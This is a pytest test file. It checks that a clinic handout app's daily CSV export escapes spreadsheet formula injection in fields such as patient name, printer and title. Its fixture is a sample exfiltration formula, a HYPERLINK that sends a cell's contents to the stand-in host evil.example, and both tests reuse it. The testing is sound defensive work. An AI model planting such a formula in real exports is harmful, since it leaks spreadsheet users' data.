"""The page's ``today.csv`` opens safely in a spreadsheet (issue 19, CSV injection): a patient's name, a
printer, initials or a title that starts with = + - @, a tab or a carriage return comes out as text
(a leading single quote), and the numbers stay numbers; read back with the csv module."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from ivig_handout.export.sinks.record import Given, Record
from ivig_handout.export.spreadsheet import FORMULA_LEADS

from .conftest import handout_form, open_page

HOSTILE = 'HYPERLINK("http://evil.example/?"&A1,"click")'


def today_rows(page_db: Path, **config: object) -> list[dict[str, str]]:
    page = open_page(record_db=page_db, **config)
    made = page.client.get("/record/today.csv")
    assert made.status_code == 200 and made.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(made.get_data(as_text=True), newline="")))


@pytest.mark.parametrize("lead", sorted(FORMULA_LEADS), ids=repr)
def test_todays_csv_neutralises_each_formula_lead(tmp_path: Path, lead: str) -> None:
    db = tmp_path / "record.sqlite3"
    value = lead + HOSTILE
    Record(db).add(Given("mg", "one-pager", "letter", 3, "cd" * 32, "c3ad53", 2012, printer=value, job_id=value,
                         by=value, patient=value, title=value))
    [row] = today_rows(db)
    assert {row[k] for k in ("title", "printer", "job_id", "by", "patient")} == {"'" + value}
    assert (row["id"], row["document"], row["copies"], row["source_year"]) == ("1", "mg", "3", "2012")


def test_a_patient_named_like_a_formula_on_the_page_is_text_in_todays_csv(tmp_path: Path) -> None:
    db = tmp_path / "record.sqlite3"
    profile = tmp_path / "desk.yaml"
    profile.write_text("name: North Clinic\nrecord_names: yes\n", encoding="utf-8")
    page = open_page(record_db=db, clinics={"desk": profile})
    made = page.post("/", handout_form(action="download", patient_name="=" + HOSTILE, clinic="desk"))
    assert made.status_code == 200 and made.mimetype == "application/pdf"
    assert [e.patient for e in Record(db).entries()] == ["=" + HOSTILE]
    [row] = list(csv.DictReader(io.StringIO(page.client.get("/record/today.csv").get_data(as_text=True),
                                            newline="")))
    assert (row["document"], row["patient"]) == ("mg", "'=" + HOSTILE)
